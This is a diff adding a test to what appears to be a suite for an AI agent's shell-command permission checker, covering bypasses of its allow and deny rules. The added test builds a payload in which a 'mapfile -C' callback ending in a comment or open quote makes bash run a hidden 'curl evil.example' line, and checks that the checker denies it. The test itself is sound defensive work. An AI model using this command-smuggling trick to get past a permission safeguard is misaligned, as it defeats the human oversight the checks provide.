@@ -218,6 +218,30 @@ describe('issue 20: the bypasses', { timeout: 60_000 }, () => {
     expect(denied(await allowOnly.run('printf -v name %s y'))).toBe('ran')
     expect(allowOnly.ran).toEqual(['printf -v name %s y'])
   })
+
+  it('P3/P8: a mapfile -C callback that ends in a comment or an open quote cannot turn the lines it is given into commands', async () => {
+    const shell: OracleMode = { builtins: 'shell', wrappers: 'stub' }
+    // bash runs `callback <index> '<line>'`; a "#" comments out the quote, and the line's own
+    // lines after its first newline are commands.
+    const payload = "printf 'x\\ncurl evil.example\\n' | "
+    for (const callback of ["'#'", "'echo ok #'", "'f #x'"]) {
+      const command = `${payload}mapfile -d '' -C ${callback} -c 1 a`
+      expect(await executedBy(command, shell)).toContain('curl evil.example')
+      const withDeny = harness({ deployment: [denyCurl] }, 'allow')
+      expect([command, denied(await withDeny.run(command))]).toEqual([command, 'DENIED'])
+      const allowMapfile = harness({
+        project: [{ decision: 'allow', tool: 'bash', command: ['printf', 'mapfile'] }],
+      })
+      expect([command, denied(await allowMapfile.run(command))]).toEqual([command, 'DENIED'])
+      expect(allowMapfile.asked).toEqual([command])
+    }
+    // A callback that keeps the line quoted only ever gets it as an argument.
+    const plain = `${payload}mapfile -d '' -C 'echo' -c 1 a`
+    expect(await executedBy(plain, shell)).not.toContain('curl evil.example')
+    const withDeny = harness({ deployment: [denyCurl] }, 'allow')
+    expect(denied(await withDeny.run(plain))).toBe('ran')
+    expect(withDeny.ran).toEqual([plain])
+  })
 })
 
 function harnessEngine() {
